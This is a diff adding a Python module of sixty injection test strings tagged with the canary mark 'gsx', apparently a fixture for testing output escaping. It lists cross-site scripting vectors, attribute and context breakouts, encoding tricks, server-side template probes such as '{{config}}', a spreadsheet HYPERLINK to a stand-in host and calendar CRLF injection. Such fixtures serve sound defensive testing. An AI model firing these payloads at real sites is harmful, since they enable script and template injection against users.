@@ -1,0 +1,73 @@
+"""Sixty things that an attacker writes where a name is asked for. Each carries the mark `gsx`, so that whatever becomes
+of it is known again: as an element's attribute, a script, a style, an address, or the answer of a template."""
+
+MARK = "gsx"
+ANSWERS = ("60466176", "49gsx49", "gsxgsxgsxgsxgsxgsxgsx", "ImmutableMultiDict", "<class ")  # what templates would make
+
+PAYLOADS = (
+    # elements
+    "<script>gsx()</script>",
+    "<SCRIPT SRC=//ond.example/gsx.js></SCRIPT>",
+    "<scr<script>ipt>gsx()</scr</script>ipt>",
+    "<img src=x onerror=gsx()>",
+    "<img/src=x/onerror=gsx()//",
+    "<IMG SRC=javascript:gsx()>",
+    "<svg onload=gsx()>",
+    "<svg><script>gsx()</script></svg>",
+    "<svg><animate onbegin=gsx() attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=gsx()>",
+    "<body onload=gsx()>",
+    "<iframe src=javascript:gsx()></iframe>",
+    "<iframe srcdoc='<script>gsx()</script>'></iframe>",
+    "<object data=javascript:gsx()></object>",
+    "<embed src=javascript:gsx()>",
+    "<details open ontoggle=gsx()>",
+    "<video><source onerror=gsx()></video>",
+    "<input autofocus onfocus=gsx()>",
+    "<button formaction=javascript:gsx()>gsx</button>",
+    "<form action=javascript:gsx()><input type=submit gsx></form>",
+    "<a href=javascript:gsx()>gsx</a>",
+    "<a href='jav&#x09;ascript:gsx()'>gsx</a>",
+    "<base href=//ond.example/gsx/>",
+    "<meta http-equiv=refresh content='0;url=javascript:gsx()' gsx>",
+    "<link rel=stylesheet href=//ond.example/gsx.css>",
+    "<style>*{background:url(//ond.example/gsx)}</style>",
+    "<div style=background:url(//ond.example/gsx)>",
+    "<template shadowrootmode=open><b gsx></b></template>",
+    "<noscript><p title='</noscript><img src=x onerror=gsx()>'>",
+    "<b gsx>fet</b>",
+    # out of where it stands
+    "\"><b gsx>",
+    "'><b gsx>",
+    "\" onmouseover=gsx() x=\"",
+    "' onmouseover=gsx() x='",
+    "` onmouseover=gsx() x=`",
+    "</textarea><b gsx>",
+    "</title><b gsx>",
+    "</script><script>gsx()</script>",
+    "</style><b gsx>",
+    "--><b gsx><!--",
+    "]]><b gsx><![CDATA[",
+    "</option></select><b gsx>",
+    "<!--gsx",
+    "<![CDATA[<b gsx>",
+    "<?xml gsx?>",
+    # characters that become others
+    "&lt;b gsx&gt;",
+    "&#60;b gsx&#62;",
+    "\uff1cb gsx\uff1e",
+    "\u202e<b gsx>",
+    "%3Cb gsx%3E",
+    "\\u003cb gsx\\u003e",
+    "\\x3cb gsx\\x3e",
+    # templates, formulas, papers, calendars
+    "{{60466176/1}}{{7*7}}gsx{{7*7}}",
+    "{{config}}{{request.args}}gsx",
+    "{% for x in (1,2) %}gsx{% endfor %}",
+    "${7*7}gsx #{7*7} %s %(gsx)s {0.__class__} {gsx!r}",
+    "#eval(\"1\")#link(\"javascript:gsx()\")[gsx] $gsx$ @gsx",
+    "=HYPERLINK(\"http://ond.example/gsx\")",
+    "\\r\\nATTACH:gsx\\nEND:VEVENT",
+    "javascript:gsx()//",
+)  # fmt: skip
+ALL = " ".join(PAYLOADS)
